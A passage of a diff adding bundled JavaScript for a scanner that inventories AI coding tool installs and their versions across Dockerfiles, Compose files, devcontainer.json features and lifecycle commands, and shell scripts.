+                    if (!/^[A-Za-z_][A-Za-z0-9_]*$/.test(name))
+                        continue;
+                    let value;
+                    const given = buildArgs.get(name);
+                    if (given)
+                        value = given;
+                    else if (eq !== -1) {
+                        const parts = w.parts.slice();
+                        const first = parts[0];
+                        if (first && first.k === 'lit')
+                            parts[0] = { k: 'lit', text: first.text.slice(eq + 1) };
+                        value = expandParts(parts, lookup);
+                    }
+                    else
+                        value = (stage ? globals.get(name) : undefined) ?? { text: '${' + name + '}', unknown: true };
+                    vars.set(name, value);
+                }
+                break;
+            }
+            case 'ENV': {
+                const words = wordsOf(text, argsStart, end, escape);
+                if (words.length > 0 && !words[0].raw.includes('=')) {
+                    // Legacy `ENV NAME value with spaces`.
+                    const rest = text.slice(words[1]?.start ?? end, end).trim();
+                    vars.set(words[0].raw, expandParts(parseShellWord(rest), lookup));
+                    break;
+                }
+                for (const w of words) {
+                    const eq = w.raw.indexOf('=');
+                    if (eq <= 0)
+                        continue;
+                    const first = w.parts[0];
+                    if (!first || first.k !== 'lit')
+                        continue;
+                    const parts = [{ k: 'lit', text: first.text.slice(eq + 1) }, ...w.parts.slice(1)];
+                    vars.set(w.raw.slice(0, eq), expandParts(parts, lookup));
+                }
+                break;
+            }
+            case 'RUN':
+            case 'ONBUILD': {
+                scanner.env.clear();
+                for (const [k, v] of vars)
+                    scanner.env.set(k, v);
+                let body = argsStart;
+                if (keyword === 'ONBUILD') {
+                    const m = /^\s*RUN\b/i.exec(text.slice(body, end));
+                    if (!m)
+                        break;
+                    body += m[0].length;
+                }
+                // RUN flags: --mount=…, --network=…, --security=…
+                for (let m = /^\s*--[a-z-]+=\S*/i.exec(text.slice(body, end)); m; m = /^\s*--[a-z-]+=\S*/i.exec(text.slice(body, end)))
+                    body += m[0].length;
+                const rest = text.slice(body, end);
+                const trimmed = rest.trimStart();
+                if (trimmed.startsWith('[')) {
+                    const argv = execForm(trimmed);
+                    if (argv) {
+                        const script = argv.map(shellQuote).join(' ');
+                        scanner.scan(script, () => locate(body), 0, script.length);
+                        break;
+                    }
+                }
+                const segment = /<<-?\s*["']?[A-Za-z_]/.test(rest) ? rest : joinContinuations(rest, escape);
+                scanner.scan(segment, (o) => locate(o + body));
+                break;
+            }
+            case 'ADD': {
+                const words = wordsOf(text, argsStart, end, escape).filter((w) => !w.raw.startsWith('--'));
+                if (words.length < 2)
+                    break;
+                const dest = expandParts(words[words.length - 1].parts, lookup).text;
+                for (const w of words.slice(0, -1)) {
+                    const src = expandParts(w.parts, lookup);
+                    if (!/^https?:\/\//i.test(src.text))
+                        continue;
+                    const file = src.text.replace(/[?#].*$/, '');
+                    const target = dest.endsWith('/') ? dest + file.slice(file.lastIndexOf('/') + 1) : dest;
+                    const rec = { url: src.text, line: locate(w.start), used: false };
+                    scanner.downloads.set(target, rec);
+                    scanner.downloads.set(target.slice(target.lastIndexOf('/') + 1), rec);
+                }
+                break;
+            }
+            default:
+                break;
+        }
+    }
+    scanner.finish();
+    for (const f of scanner.findings)
+        components.push(findingComponent(f, file, DOCKERFILE_SOURCE));
+    for (const p of scanner.problems)
+        errors.push(problemError(p, file, 'RUN'));
+    return { components, errors };
+}
+/** The words of `text[start, end)` (ARG and ENV arguments) read with shell quoting. */
+function wordsOf(text, start, end, escape = '\\') {
+    const joined = joinContinuations(text.slice(start, end), escape);
+    return parseShell(joined)
+        .pipelines.flatMap((p) => p.commands.flatMap((c) => c.words))
+        .map((w) => ({ ...w, start: w.start + start }));
+}
+function parseShellWord(text) {
+    const w = parseShell(text).pipelines[0]?.commands[0]?.words;
+    if (!w || w.length === 0)
+        return [{ k: 'lit', text }];
+    return w.length === 1 ? w[0].parts : [{ k: 'lit', text }];
+}
+/**
+ * Joins a Dockerfile instruction's continuation lines the way the builder does: the escape
+ * character and newline go, and comment or blank lines inside the continuation are dropped.
+ * Offsets are kept (removed characters become spaces) so lines can still be located.
+ */
+function joinContinuations(text, escape) {
+    const chars = text.split('');
+    const end = text.length;
+    let i = 0;
+    let continued = false;
+    while (i < end) {
+        let nl = text.indexOf('\n', i);
+        if (nl === -1 || nl > end)
+            nl = end;
+        const line = text.slice(i, nl);
+        if (continued && /^\s*(#.*)?\r?$/.test(line)) {
+            for (let k = i; k <= nl && k < end; k++)
+                chars[k] = ' ';
+            i = nl + 1;
+            continue;
+        }
+        const trimmedEnd = line.replace(/[ \t\r]+$/, '');
+        if (trimmedEnd.endsWith(escape) && !trimmedEnd.endsWith(escape + escape)) {
+            const at = i + trimmedEnd.length - 1;
+            for (let k = at; k <= nl && k < end; k++)
+                chars[k] = ' ';
+            continued = true;
+        }
+        else {
+            continued = false;
+        }
+        i = nl + 1;
+    }
+    return chars.join('');
+}
+function execForm(text) {
+    try {
+        const v = JSON.parse(text.replace(/\\\r?\n/g, ''));
+        return Array.isArray(v) && v.every((x) => typeof x === 'string') ? v : null;
+    }
+    catch {
+        return null;
+    }
+}
+function shellQuote(s) {
+    return /^[\w@%+=:,./-]+$/.test(s) ? s : "'" + s.replace(/'/g, "'\\''") + "'";
+}
+const dockerfileDetector = {
+    id: DOCKERFILE_SOURCE,
+    matches: isDockerfilePath,
+    detect: ({ path, text }) => scanDockerfile(text, path),
+};
+
+;// CONCATENATED MODULE: ./src/detectors/devcontainer/yaml-nodes.ts
+// Small helpers over `yaml` documents with source positions, shared by the compose and workflow
+// detectors. Aliases are followed by reference (never expanded), so alias bombs stay cheap.
+
+function parseYaml(text, file, maxDepth) {
+    const lines = new dist/* LineCounter */.HN();
+    const errors = [];
+    const depth = flowDepth(text);
+    if (depth > maxDepth) {
+        errors.push({ file, message: `nesting deeper than ${maxDepth} levels` });
+        return { doc: (0,dist/* parseDocument */.Tp)('', { lineCounter: new dist/* LineCounter */.HN() }), lines, errors };
+    }
+    const doc = (0,dist/* parseDocument */.Tp)(text, { lineCounter: lines, uniqueKeys: false, prettyErrors: false });
+    for (const e of doc.errors.slice(0, 10)) {
+        const pos = lines.linePos(e.pos[0]);
+        errors.push({
+            file,
+            line: pos.line,
+            column: pos.col,
+            message: `invalid YAML: ${e.message.split('\n')[0]}`,
+        });
+    }
+    return { doc, lines, errors };
+}
+/**
+ * Deepest nesting of flow collections (`[`, `{`) and of block indentation, a cheap bound before
+ * parsing. Brackets inside quoted scalars, comments and block scalars (`run: |`) are text, not
+ * nesting, and are not counted.
+ */
+function flowDepth(text) {
+    let depth = 0;
+    let max = 0;
+    let indentMax = 0;
+    let blockIndent = -1;
+    let start = 0;
+    while (start <= text.length) {
+        let end = text.indexOf('\n', start);
+        if (end === -1)
+            end = text.length;
+        let indent = 0;
+        while (start + indent < end && text[start + indent] === ' ')
+            indent++;
+        const blank = start + indent >= end || text[start + indent] === '\r';
+        if (blockIndent >= 0 && (blank || indent > blockIndent)) {
+            start = end + 1;
+            continue;
+        }
+        blockIndent = -1;
+        let quote = '';
+        let dashes = 0;
+        for (let i = start + indent; i < end; i++) {
+            const c = text[i];
+            if (quote) {
+                if (c === quote)
+                    quote = '';
+                else if (c === '\\' && quote === '"')
+                    i++;
+                continue;
+            }
+            if (c === '"' || c === "'") {
+                const prev = i > start ? text[i - 1] : ' ';
+                if (prev === ' ' ||
+                    prev === '\t' ||
+                    prev === '[' ||
+                    prev === '{' ||
+                    prev === ',' ||
+                    prev === ':' ||
+                    prev === '-')
+                    quote = c;
+            }
+            else if (c === '#' && (i === start || text[i - 1] === ' ' || text[i - 1] === '\t'))
+                break;
+            else if (c === '[' || c === '{') {
+                depth++;
+                if (depth > max)
+                    max = depth;
+            }
+            else if ((c === ']' || c === '}') && depth > 0)
+                depth--;
+            else if (c === '-' && depth === 0 && i === start + indent + dashes * 2 && text[i + 1] === ' ')
+                dashes++;
+        }
+        const level = indent / 2 + dashes;
+        if (level > indentMax)
+            indentMax = level;
+        // A block scalar header (`key: |`, `- >-`): the more-indented lines that follow are its text.
+        if (/(^|[:\s-])[|>][-+0-9]*\s*(#.*)?\r?$/.test(text.slice(start + indent, end)) && depth === 0)
+            blockIndent = indent;
+        start = end + 1;
+    }
+    return Math.max(max, indentMax);
+}
+function resolve(doc, node) {
+    return (0,dist/* isAlias */.Vj)(node) ? node.resolve(doc) : node;
+}
+function get(doc, map, key) {
+    const m = resolve(doc, map);
+    if (!(0,dist/* isMap */.jh)(m))
+        return undefined;
+    const p = pair(m, key);
+    return p ? resolve(doc, p.value) : undefined;
+}
+function pair(map, key) {
+    return map.items.find((p) => (0,dist/* isScalar */.jn)(p.key) && String(p.key.value) === key);
+}
+function pairs(doc, map) {
+    const m = resolve(doc, map);
+    if (!(0,dist/* isMap */.jh)(m))
+        return [];
+    const out = [];
+    for (const p of m.items) {
+        if ((0,dist/* isScalar */.jn)(p.key))
+            out.push({ key: String(p.key.value), keyNode: p.key, value: resolve(doc, p.value) });
+    }
+    return out;
+}
+function items(doc, seq) {
+    const s = resolve(doc, seq);
+    return (0,dist/* isSeq */.oP)(s) ? s.items.map((i) => resolve(doc, i)) : [];
+}
+function str(node) {
+    if (!(0,dist/* isScalar */.jn)(node))
+        return undefined;
+    const v = node.value;
+    return typeof v === 'string' ? v : typeof v === 'number' || typeof v === 'boolean' ? String(v) : undefined;
+}
+function lineOf(lines, node) {
+    const range = node?.range;
+    return range ? lines.linePos(range[0]).line : 1;
+}
+/**
+ * Maps an offset inside a scalar's value to a line of the file. Literal block scalars (`|`) keep
+ * one value line per source line after their header; other scalars are located at their start.
+ */
+function scalarLocator(lines, node) {
+    const start = lineOf(lines, node);
+    const type = (0,dist/* isScalar */.jn)(node) ? node.type : undefined;
+    if (type === 'BLOCK_LITERAL' || type === 'BLOCK_FOLDED') {
+        return (offset, value) => {
+            let n = 0;
+            for (let i = value.indexOf('\n'); i !== -1 && i < offset; i = value.indexOf('\n', i + 1))
+                n++;
+            return start + 1 + n;
+        };
+    }
+    return () => start;
+}
+
+;// CONCATENATED MODULE: ./src/detectors/compose.ts
+// Docker Compose files: each service's `build` (context, dockerfile, args as a map or a list,
+// dockerfile_inline) leads to a Dockerfile, scanned with the build args applied; values are
+// interpolated from the project's `.env` the way Compose does (`${V}`, `${V:-d}`, `${V:?e}`, `$$`).
+
+
+
+
+const COMPOSE_SOURCE = 'compose';
+function isComposePath(path) {
+    const name = path.slice(path.lastIndexOf('/') + 1);
+    return /^(docker-)?compose(\.[^/]+)?\.ya?ml$/i.test(name);
+}
+/** Joins a relative path onto a folder of the scanned tree; null for absolute paths and URLs. */
+function joinRelative(dir, rel) {
+    if (rel.startsWith('/') || /^[a-z][a-z0-9+.-]*:\/\//i.test(rel) || rel.includes('${'))
+        return null;
+    const j = external_node_path_.posix.normalize(external_node_path_.posix.join(dir || '.', rel));
+    return j === '.' ? '' : j.replace(/^\.\//, '');
+}
+function dirOf(path) {
+    const i = path.lastIndexOf('/');
+    return i === -1 ? '' : path.slice(0, i);
+}
+/** Reads a `.env` file: `KEY=value`, `export KEY=value`, quotes, comments. */
+function parseDotEnv(text) {
+    const env = new Map();
+    for (const raw of text.split('\n')) {
+        const line = raw.replace(/\r$/, '');
+        const m = /^\s*(?:export\s+)?([A-Za-z_][A-Za-z0-9_.-]*)\s*=\s*(.*)$/.exec(line);
+        if (!m)
+            continue;
+        let v = m[2];
+        if (/^"/.test(v))
+            v = (/^"((?:[^"\\]|\\.)*)"/.exec(v)?.[1] ?? v.slice(1))
+                .replace(/\\(["\\$])/g, '$1')
+                .replace(/\\n/g, '\n');
+        else if (/^'/.test(v))
+            v = /^'([^']*)'/.exec(v)?.[1] ?? v.slice(1);
+        else
+            v = v.replace(/\s+#.*$/, '').trim();
+        env.set(m[1], v);
+    }
+    return env;
+}
+/** Compose variable interpolation. Unset variables without a default are unknown. */
+function interpolate(text, env, depth = 0) {
+    let out = '';
+    let unknown = false;
+    let i = 0;
+    while (i < text.length) {
+        const c = text[i];
+        if (c !== '$') {
+            out += c;
+            i++;
+            continue;
+        }
+        const n = text[i + 1];
+        if (n === '$') {
+            out += '$';
+            i += 2;
+            continue;
+        }
+        if (n === '{') {
+            let depthB = 1;
+            let j = i + 2;
+            while (j < text.length && depthB > 0) {
+                if (text[j] === '{')
+                    depthB++;
+                else if (text[j] === '}')
+                    depthB--;
+                j++;
+            }
+            const raw = text.slice(i, j);
+            const inner = text.slice(i + 2, j - 1);
+            const m = /^([A-Za-z_][A-Za-z0-9_]*)(?:(:?[-?+])([\s\S]*))?$/.exec(inner);
+            i = j;
+            if (!m || depth > 8) {
+                out += raw;
+                unknown = true;
+                continue;
+            }
+            const v = env.get(m[1]);
+            const op = m[2] ?? '';
+            const arg = m[3] ?? '';
+            if (op === ':-' || op === '-') {
+                const useDefault = v === undefined || (op === ':-' && v === '');
+                if (!useDefault)
+                    out += v;
+                else {
+                    const d = interpolate(arg, env, depth + 1);
+                    out += d.text;
+                    if (d.unknown)
+                        unknown = true;
+                }
+            }
+            else if (op === ':+' || op === '+') {
+                const useAlt = v !== undefined && (op === '+' || v !== '');
+                if (useAlt) {
+                    const d = interpolate(arg, env, depth + 1);
+                    out += d.text;
+                    if (d.unknown)
+                        unknown = true;
+                }
+            }
+            else if (v !== undefined)
+                out += v;
+            else {
+                out += raw;
+                unknown = true;
+            }
+            continue;
+        }
+        const m = /^[A-Za-z_][A-Za-z0-9_]*/.exec(text.slice(i + 1, i + 257));
+        if (m) {
+            const v = env.get(m[0]);
+            if (v !== undefined)
+                out += v;
+            else {
+                out += '$' + m[0];
+                unknown = true;
+            }
+            i += 1 + m[0].length;
+            continue;
+        }
+        out += '$';
+        i++;
+    }
+    return { text: out, unknown };
+}
+/**
+ * Scans the Dockerfiles built by the services of one compose file (all services, or only
+ * `service`), with their build args. Components sit in the Dockerfiles; a `dockerfile_inline`
+ * is located in the compose file.
+ */
+async function scanCompose(path, text, input, service) {
+    const components = [];
+    const parsed = parseYaml(text, path, input.limits.maxDepth);
+    const errors = [...parsed.errors];
+    const { doc, lines } = parsed;
+    const dir = dirOf(path);
+    const dotEnv = await input.readFile(dir ? `${dir}/.env` : '.env');
+    const env = dotEnv === null ? new Map() : parseDotEnv(dotEnv);
+    const inter = (s) => interpolate(s, env);
+    for (const svc of pairs(doc, get(doc, doc.contents, 'services'))) {
+        if (service !== undefined && svc.key !== service)
+            continue;
+        let context = '.';
+        let dockerfile = 'Dockerfile';
+        let inline;
+        const args = new Map();
+        {
+            const b = get(doc, svc.value, 'build');
+            if (b === undefined)
+                continue;
+            if ((0,dist/* isScalar */.jn)(b))
+                context = inter(str(b) ?? '.').text;
+            else {
+                const c = str(get(doc, b, 'context'));
+                if (c !== undefined)
+                    context = inter(c).text;
+                const d = str(get(doc, b, 'dockerfile'));
+                if (d !== undefined)
+                    dockerfile = inter(d).text;
+                inline = get(doc, b, 'dockerfile_inline');
+                const a = get(doc, b, 'args');
+                for (const p of pairs(doc, a)) {
+                    const v = str(p.value);
+                    if (v !== undefined)
+                        args.set(p.key, inter(v));
+                    else if (env.has(p.key))
+                        args.set(p.key, { text: env.get(p.key), unknown: false });
+                }
+                for (const item of items(doc, a)) {
+                    const s = str(item);
+                    if (s === undefined)
+                        continue;
+                    const eq = s.indexOf('=');
+                    if (eq > 0)
+                        args.set(s.slice(0, eq), inter(s.slice(eq + 1)));
+                    else if (env.has(s))
+                        args.set(s, { text: env.get(s), unknown: false });
+                }
+            }
+        }
+        if (inline !== undefined && str(inline) !== undefined) {
+            const firstLine = lineOf(lines, inline) + ((0,dist/* isScalar */.jn)(inline) && inline.type?.startsWith('BLOCK') ? 1 : 0);
+            const r = scanDockerfile(str(inline), path, { buildArgs: args, firstLine });
+            components.push(...r.components);
+            errors.push(...r.errors);
+            continue;
+        }
+        const ctx = joinRelative(dir, context);
+        if (ctx === null)
+            continue;
+        const df = joinRelative(ctx, dockerfile);
+        if (df === null)
+            continue;
+        const dockerText = await input.readFile(df);
+        if (dockerText === null)
+            continue;
+        const r = scanDockerfile(dockerText, df, { buildArgs: args });
+        components.push(...r.components);
+        // A Dockerfile under a standard name reports its own errors when scanned on its own.
+        if (!isDockerfilePath(df))
+            errors.push(...r.errors);
+    }
+    return { components, errors };
+}
+const composeDetector = {
+    id: COMPOSE_SOURCE,
+    matches: isComposePath,
+    detect: (input) => scanCompose(input.path, input.text, input),
+};
+
+// EXTERNAL MODULE: ./node_modules/jsonc-parser/lib/umd/main.js
+var main = __nccwpck_require__(99547);
+;// CONCATENATED MODULE: ./src/detectors/devcontainer/jsonc.ts
+// JSONC parsing with offsets (comments and trailing commas), a depth bound checked with the
+// iterative scanner before building the tree, and located errors.
+
+// jsonc-parser's SyntaxKind is an ambient const enum; its values, spelled out.
+const OPEN_BRACE = 1;
+const CLOSE_BRACE = 2;
+const OPEN_BRACKET = 3;
+const CLOSE_BRACKET = 4;
+const EOF = 17;
+function parseJsonc(text, file, lines, maxDepth) {
+    const scanner = (0,main.createScanner)(text, true);
+    let depth = 0;
+    for (let k = scanner.scan(); k !== EOF; k = scanner.scan()) {
+        if (k === OPEN_BRACE || k === OPEN_BRACKET) {
+            if (++depth > maxDepth) {
+                const at = scanner.getTokenOffset();
+                return {
+                    root: undefined,
+                    errors: [
+                        {
+                            file,
+                            line: lines.line(at),
+                            column: lines.column(at),
+                            message: `nesting deeper than ${maxDepth} levels`,
+                        },
+                    ],
+                };
+            }
+        }
+        else if (k === CLOSE_BRACE || k === CLOSE_BRACKET)
+            depth--;
+    }
+    const parseErrors = [];
+    const root = (0,main.parseTree)(text, parseErrors, {
+        allowTrailingComma: true,
+        disallowComments: false,
+        allowEmptyContent: true,
+    });
+    const errors = parseErrors.slice(0, 1).map((e) => ({
+        file,
+        line: lines.line(e.offset),
+        column: lines.column(e.offset),
+        message: `invalid JSONC: ${(0,main.printParseErrorCode)(e.error)}`,
+    }));
+    return { root, errors };
+}
+function at(root, path) {
+    return root ? (0,main.findNodeAtLocation)(root, path) : undefined;
+}
+/** The properties of an object node: key, key node, value node. */
+function props(node) {
+    if (!node || node.type !== 'object' || !node.children)
+        return [];
+    const out = [];
+    for (const p of node.children) {
+        const k = p.children?.[0];
+        const v = p.children?.[1];
+        if (k && v && typeof k.value === 'string')
+            out.push({ key: k.value, keyNode: k, value: v });
+    }
+    return out;
+}
+function strings(node) {
+    if (!node || node.type !== 'array' || !node.children)
+        return [];
+    return node.children.filter((c) => c.type === 'string');
+}
+function strValue(node) {
+    return node && node.type === 'string' && typeof node.value === 'string' ? node.value : undefined;
+}
+/** A scalar option value as text (`"1.2.3"`, `true`, `3`). */
+function scalarText(node) {
+    if (!node)
+        return undefined;
+    if (node.type === 'string' || node.type === 'number' || node.type === 'boolean')
+        return String(node.value);
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./src/detectors/devcontainer/known-features.ts
+// Dev container features that install AI coding tools: which option carries the tool's version,
+// its default (from each feature's devcontainer-feature.json), how an option value maps to a
+// version, and the npm/PyPI package the feature installs where that is how it installs.
+const semverish = (v) => {
+    const m = /^v?(\d+\.\d+\.\d+(?:-[0-9A-Za-z.-]+)?)$/.exec(v);
+    return m ? m[1] : null;
+};
+const releaseTag = (v) => {
+    const m = /^(?:rust-)?v?(\d+\.\d+\.\d+(?:-[0-9A-Za-z.-]+)?)$/.exec(v);
+    return m ? m[1] : null;
+};
+const extra = (ns) => [
+    // devcontainers-extra (formerly devcontainers-contrib): option `version`, default `latest`;
+    // claude-code runs the native installer, opencode and goose download GitHub releases.
+    {
+        id: `ghcr.io/${ns}/features/claude-code`,
+        tool: 'claude-code',
+        versionOption: 'version',
+        defaultVersion: 'latest',
+    },
+    {
+        id: `ghcr.io/${ns}/features/opencode`,
+        tool: 'opencode',
+        versionOption: 'version',
+        defaultVersion: 'latest',
+    },
+    {
+        id: `ghcr.io/${ns}/features/codename-goose-cli`,
+        tool: 'goose',
+        versionOption: 'version',
+        defaultVersion: 'stable',
+    },
+];
+const knownFeatures = [
+    // anthropics/devcontainer-features claude-code: no options, always `npm install -g
+    // @anthropic-ai/claude-code` (latest).
+    {
+        id: 'ghcr.io/anthropics/devcontainer-features/claude-code',
+        tool: 'claude-code',
+        defaultVersion: 'latest',
+        npm: '@anthropic-ai/claude-code',
+    },
+    ...extra('devcontainers-extra'),
+    ...extra('devcontainers-contrib'),
+    // devcontainers/features copilot-cli: option `version` (latest | prerelease | X.Y.Z).
+    {
+        id: 'ghcr.io/devcontainers/features/copilot-cli',
+        tool: 'copilot-cli',
+        versionOption: 'version',
+        defaultVersion: 'latest',
+    },
+    // sachitv codex: option `release_tag` (a GitHub release tag such as `rust-v0.58.0`), default latest.
+    {
+        id: 'ghcr.io/sachitv/devcontainer-features/codex',
+        tool: 'codex',
+        versionOption: 'release_tag',
+        defaultVersion: 'latest',
+        toVersion: releaseTag,
+    },
+    // jsburckhardt codex: no options, always the latest release.
+    { id: 'ghcr.io/jsburckhardt/devcontainer-features/codex', tool: 'codex', defaultVersion: 'latest' },
+    // stu-bell gemini-cli: option `version` (latest | nightly | preview | X.Y.Z), npm install.
+    {
+        id: 'ghcr.io/stu-bell/devcontainer-features/gemini-cli',
+        tool: 'gemini-cli',
+        versionOption: 'version',
+        defaultVersion: 'latest',
+        npm: '@google/gemini-cli',
+    },
+];
+const byId = new Map(knownFeatures.map((f) => [f.id, f]));
+function knownFeature(id) {
+    return byId.get(id);
+}
+function featureVersion(f, value) {
+    return (f.toVersion ?? semverish)(value);
+}
+/**
+ * Last path segments of feature ids that name an AI coding tool unambiguously. Bare words that
+ * also name unrelated tools (`goose` the database migration tool, `amp` of Amplitude) are left
+ * out on purpose.
+ */
+const AI_TOOL_IDS = new Set([
+    'claude-code',
+    'claude-code-cli',
+    'claude',
+    'codex',
+    'codex-cli',
+    'openai-codex',
+    'gemini-cli',
+    'google-gemini-cli',
+    'copilot-cli',
+    'github-copilot-cli',
+    'opencode',
+    'goose-cli',
+    'codename-goose-cli',
+    'block-goose',
+    'aider',
+    'aider-chat',
+    'cursor-cli',
+    'cursor-agent',
+    'qwen-code',
+    'qwen-code-cli',
+    'kimi-cli',
+    'amp-cli',
+    'sourcegraph-amp',
+    'crush',
+    'auggie',
+    'cline',
+    'cline-cli',
+    'kilocode',
+    'kilo-code',
+    'droid',
+    'factory-droid',
+    'junie',
+    'codebuddy',
+    'plandex',
+    'openhands',
+]);
+function looksLikeAiTool(id) {
+    return AI_TOOL_IDS.has(id.slice(id.lastIndexOf('/') + 1));
+}
+/** An option name that says it carries a version. */
+function isVersionOption(name) {
+    return /version|release|tag/i.test(name);
+}
+const semverLike = semverish;
+
+;// CONCATENATED MODULE: ./src/detectors/shell-script.ts
+// Shell scripts (`*.sh`, `*.bash`): installs and runs of tools, located at their lines.
+
+
+
+const SHELL_SCRIPT_SOURCE = 'shell-script';
+function isShellScriptPath(path) {
+    return /\.(sh|bash)$/i.test(path);
+}
+function scanShellScript(path, text) {
+    const lines = new LineIndex(text);
+    const scanner = new CommandScanner();
+    scanner.scan(text, (o) => lines.line(o));
+    scanner.finish();
+    const components = scanner.findings.map((f) => findingComponent(f, path, SHELL_SCRIPT_SOURCE));
+    return { components, errors: scanner.problems.map((p) => problemError(p, path)) };
+}
+const shellScriptDetector = {
+    id: SHELL_SCRIPT_SOURCE,
+    matches: isShellScriptPath,
+    detect: ({ path, text }) => scanShellScript(path, text),
+};
+
+;// CONCATENATED MODULE: ./src/detectors/devcontainer-json.ts
+
+
+
+
+
+
+
+
+
+const DEVCONTAINER_SOURCE = 'devcontainer.json';
+function isDevcontainerPath(path) {
+    const name = path.slice(path.lastIndexOf('/') + 1);
+    return name === 'devcontainer.json' || name === '.devcontainer.json';
+}
+const LIFECYCLE = [
+    'initializeCommand',
+    'onCreateCommand',
+    'updateContentCommand',
+    'postCreateCommand',
+    'postStartCommand',
+    'postAttachCommand',
+];
+/** The feature reference split into its component name and kind. */
+function featureRef(key) {
+    if (/^\.{1,2}\//.test(key))
+        return { name: key, kind: 'file' };
+    if (/^https?:\/\//i.test(key))
+        return { name: key.replace(/^https?:\/\//i, ''), kind: 'tarball' };
+    let name = key;
+    const digest = name.indexOf('@');
+    if (digest !== -1)
+        name = name.slice(0, digest);
+    else {
+        const colon = name.lastIndexOf(':');
+        if (colon > name.lastIndexOf('/'))
+            name = name.slice(0, colon);
+    }
+    return { name: name.toLowerCase(), kind: 'registry' };
+}
+/** The version a feature's option value stands for: exact, or null with the value as the spec. */
+function versionOf(value, toVersion) {
+    if (value.includes('${'))
+        return { version: null, spec: value };
+    const v = toVersion(value);
+    return v ? { version: v } : { version: null, spec: value };
+}
+async function scanDevcontainer(input) {
+    const { path, text } = input;
+    const lines = new LineIndex(text);
+    const components = [];
+    const parsed = parseJsonc(text, path, lines, input.limits.maxDepth);
+    const errors = [...parsed.errors];
+    const root = parsed.root;
+    if (!root || root.type !== 'object') {
+        if (root && errors.length === 0)
+            errors.push({ file: path, line: 1, message: 'devcontainer.json is not a JSON object' });
+        return { components, errors };
+    }
+    const dir = dirOf(path);
+    const lineOf = (n) => lines.line(n.offset);
+    // Features.
+    for (const f of props(at(root, ['features']))) {
+        const ref = featureRef(f.key);
+        const options = f.value.type === 'object' ? props(f.value) : [];
+        const legacyVersion = f.value.type === 'string' ? strValue(f.value) : undefined;
+        const known = knownFeature(ref.name);
+        let version = null;
+        let spec;
+        if (known) {
+            const opt = known.versionOption ? options.find((o) => o.key === known.versionOption) : undefined;
+            const value = (opt ? scalarText(opt.value) : undefined) ?? legacyVersion ?? known.defaultVersion;
+            ({ version, spec } = versionOf(value, (v) => featureVersion(known, v)));
+        }
+        else {
+            const ai = looksLikeAiTool(ref.name);
+            const opt = options.find((o) => (ai ? isVersionOption(o.key) : o.key === 'version'));
+            const value = (opt ? scalarText(opt.value) : undefined) ?? legacyVersion;
+            if (value !== undefined) {
+                ({ version, spec } = versionOf(value, ai ? (v) => semverLike(v.replace(/^[a-z]+-(?=v?\d)/i, '')) : () => null));
+            }
+        }
+        const line = lineOf(f.keyNode);
+        components.push(makeComponent({
+            ecosystem: 'devcontainer-feature',
+            name: ref.name,
+            version,
+            ...(version === null && spec !== undefined ? { spec } : {}),
+            location: { file: path, line },
+            source: DEVCONTAINER_SOURCE,
+            sourceKind: ref.kind,
+            resolved: f.key,
+        }));
+        if (known?.npm || known?.pypi) {
+            components.push(makeComponent({
+                ecosystem: known.npm ? 'npm' : 'pypi',
+                name: (known.npm ?? known.pypi),
+                version,
+                ...(version === null && spec !== undefined ? { spec } : {}),
+                location: { file: path, line },
+                source: DEVCONTAINER_SOURCE,
+                sourceKind: 'registry',
+            }));
+        }
+        if (ref.kind === 'file') {
+            // A local feature: its install.sh runs with the options as upper-case variables.
+            const folder = joinRelative(dir, f.key);
+            if (folder !== null) {
+                const env = new Map();
+                for (const o of options) {
+                    const v = scalarText(o.value);
+                    if (v !== undefined)
+                        env.set(o.key.toUpperCase().replace(/[^A-Z0-9_]/g, '_'), { text: v, unknown: v.includes('${') });
+                }
+                await scanScriptFile(input, `${folder ? folder + '/' : ''}install.sh`, components, errors, env, new Set());
+            }
+        }
+    }
+    // Lifecycle commands, with the container's and the remote environment.
+    const lifecycleEnv = new Map();
+    for (const key of ['containerEnv', 'remoteEnv']) {
+        for (const e of props(at(root, [key]))) {
+            const v = scalarText(e.value);
+            if (v !== undefined)
+                lifecycleEnv.set(e.key, { text: v, unknown: v.includes('${') });
+        }
+    }
+    const scanner = new CommandScanner(new Map(lifecycleEnv));
+    for (const key of LIFECYCLE) {
+        const node = at(root, [key]);
+        if (!node)
+            continue;
+        const commands = node.type === 'object' ? props(node).map((p) => p.value) : [node];
+        for (const c of commands) {
+            if (c.type === 'string') {
+                const s = strValue(c) ?? '';
+                scanner.scan(s, () => lineOf(c));
+            }
+            else if (c.type === 'array') {
+                const argv = strings(c).map((n) => strValue(n) ?? '');
+                const script = argv.map(shellQuote).join(' ');
+                scanner.scan(script, () => lineOf(c));
+            }
+        }
+    }
+    scanner.finish();
+    for (const f of scanner.findings)
+        components.push(findingComponent(f, path, DEVCONTAINER_SOURCE));
+    for (const p of scanner.problems)
+        errors.push(problemError(p, path, 'lifecycle command'));
+    const workspace = workspaceRoot(path);
+    const visited = new Set();
+    for (const run of scanner.scriptRuns) {
+        const rel = run.path.replace(/^\$\{(containerWorkspaceFolder|localWorkspaceFolder)\}\/?/, '');
+        for (const base of [workspace, dir]) {
+            const p = joinRelative(base, rel);
+            if (p !== null && (await scanScriptFile(input, p, components, errors, new Map(lifecycleEnv), visited)))
+                break;
+        }
+    }
+    // Build: the Dockerfile with the build args, or the compose service's build.
+    const build = at(root, ['build']);
+    const dockerfile = strValue(at(build, ['dockerfile'])) ??
+        strValue(at(root, ['dockerFile'])) ??
+        strValue(at(build, ['dockerFile']));
+    if (dockerfile !== undefined) {
+        const args = new Map();
+        for (const a of props(at(build, ['args']))) {
+            const v = scalarText(a.value);
+            if (v !== undefined)
+                args.set(a.key, { text: v, unknown: v.includes('${') });
+        }
+        const df = joinRelative(dir, dockerfile);
+        const dockerText = df === null ? null : await input.readFile(df);
+        if (df !== null && dockerText !== null) {
+            const r = scanDockerfile(dockerText, df, { buildArgs: args });
+            components.push(...r.components);
+            if (!isDockerfilePath(df))
+                errors.push(...r.errors);
+        }
+    }
+    const composeNode = at(root, ['dockerComposeFile']);
+    const composeFiles = composeNode?.type === 'array'
+        ? strings(composeNode).map((n) => strValue(n) ?? '')
+        : [strValue(composeNode)];
+    const service = strValue(at(root, ['service']));
+    for (const cf of composeFiles) {
+        if (!cf)
+            continue;
+        const p = joinRelative(dir, cf);
+        const composeText = p === null ? null : await input.readFile(p);
+        if (p === null || composeText === null)
+            continue;
+        const r = await scanCompose(p, composeText, input, service);
+        components.push(...r.components);
+    }
+    // VS Code extensions (and the legacy top-level `extensions`).
